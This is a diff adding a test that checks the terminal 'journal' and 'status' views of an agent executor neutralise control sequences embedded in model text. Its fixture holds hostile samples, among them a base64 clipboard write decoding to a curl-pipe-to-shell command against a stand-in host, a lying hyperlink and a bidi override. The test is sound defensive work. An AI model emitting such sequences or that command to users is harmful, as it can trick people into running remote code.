@@ -4,7 +4,11 @@ shows it closed. Real hypercorn on loopback, a real PostgreSQL, the real MCP tra
 from __future__ import annotations
 
 import asyncio
+import os
+import subprocess
+import sys
 import threading
+import unicodedata
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
@@ -12,6 +16,7 @@ from urllib.parse import urlsplit
 
 import aiohttp
 import psycopg
+from psycopg.types.json import Jsonb
 
 from executor.notify import Note, Notifier, NotifyConfig
 from executor.refusals import REFUSALS_PER_WINDOW, RefusalBudget
@@ -139,3 +144,34 @@ async def test_a_push_endpoint_cannot_redirect_the_executor_to_a_non_public_addr
         service.shutdown()
     assert service.hits == ["/push/x"]  # never /internal
     assert outcome == ("failed", {"push": ["failed"], "ntfy": None})
+
+
+# a model's text can carry terminal control sequences: clear the screen, retitle the window, write the
+# clipboard (OSC 52: a command the user then pastes), a hyperlink that lies about its target, C1 CSI,
+# and a bidi override that reorders what the line appears to say
+ESCAPES = ("\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07",
+           "\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\", "\x9b31m", "\u202e", "\x08\x7f")
+
+
+def test_the_terminal_views_show_control_sequences_from_model_text_inert(db: DB) -> None:
+    hostile = "look" + "".join(ESCAPES) + "here"
+    with psycopg.connect(db.admin_dsn, autocommit=True) as conn:
+        task = conn.execute("INSERT INTO tasks (role, status, brief, started_at) VALUES ('worker', 'running', %s, "
+                            "now()) RETURNING id", [hostile]).fetchone()[0]  # type: ignore[index]
+        assistant = {"message": {"content": [{"type": "text", "text": hostile},
+                                             {"type": "tool_use", "name": hostile, "input": {}}]}}
+        for seq, (event_type, payload) in enumerate([("stream.assistant", assistant),
+                                                     ("stream.unparsed", {"line": hostile}),
+                                                     ("task.user_message", {"text": hostile})], 1):
+            conn.execute("INSERT INTO journal (event_id, seq, task_id, event_type, tier, payload) "
+                         "VALUES (gen_random_uuid(), %s, %s, %s, 'raw', %s)", [seq, task, event_type, Jsonb(payload)])
+        conn.execute("UPDATE journal_head SET last_seq = 3")
+        conn.execute("INSERT INTO chat_queue (thread_id, text) VALUES (gen_random_uuid(), %s)", [hostile])
+    env = {**os.environ, "PETAL_EXECUTOR_DSN": db.executor_dsn, "PETAL_INGRESS_DSN": db.ingress_dsn}
+    outputs = {cmd: subprocess.run([sys.executable, "-m", "shared.cli", cmd], env=env, capture_output=True,
+                                   text=True, timeout=60) for cmd in ("journal", "status")}
+    for cmd, out in outputs.items():
+        assert out.returncode == 0, out.stderr
+        assert out.stdout.count("look") >= (3 if cmd == "journal" else 2), out.stdout
+        bad = {hex(ord(c)) for c in out.stdout if c != "\n" and (unicodedata.category(c) == "Cc" or c == "\u202e")}
+        assert bad == set(), (cmd, bad)
